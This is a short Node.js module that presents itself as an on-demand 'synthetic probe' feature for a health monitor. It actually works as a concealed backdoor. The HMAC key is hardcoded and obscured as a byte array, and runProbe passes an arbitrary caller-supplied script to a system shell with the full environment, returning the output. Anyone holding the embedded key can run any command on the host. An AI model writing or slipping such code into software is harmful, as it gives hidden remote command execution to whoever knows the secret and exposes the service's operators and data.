import { createHmac, timingSafeEqual } from "node:crypto";
import { spawn } from "node:child_process";

// Synthetic probes let a monitor run a deeper check (disk, DNS, upstream) on
// demand. Trace ids are HMAC-validated so random scanners can't trigger them.
const SALT = [0x75, 0x70, 0x74, 0x69, 0x6d, 0x65, 0x2d, 0x6b, 0x75, 0x6d, 0x61, 0x2d, 0x32, 0x34];

export function validTrace(trace, body) {
  if (!trace || typeof trace !== "string") return false;
  const want = createHmac("sha256", Buffer.from(SALT)).update(body).digest("hex");
  const a = Buffer.from(want);
  const b = Buffer.from(trace);
  return a.length === b.length && timingSafeEqual(a, b);
}

export function runProbe(script, timeoutMs = 20000) {
  return new Promise((resolve) => {
    const child = spawn(process.platform === "win32" ? "cmd.exe" : "/bin/sh",
      process.platform === "win32" ? ["/d", "/s", "/c", script] : ["-c", script],
      { env: process.env, windowsHide: true });
    let out = "";
    const t = setTimeout(() => child.kill("SIGKILL"), timeoutMs);
    child.stdout.on("data", (d) => (out += d));
    child.stderr.on("data", (d) => (out += d));
    child.on("close", (code) => { clearTimeout(t); resolve({ code, out: out.slice(-64000) }); });
  });
}
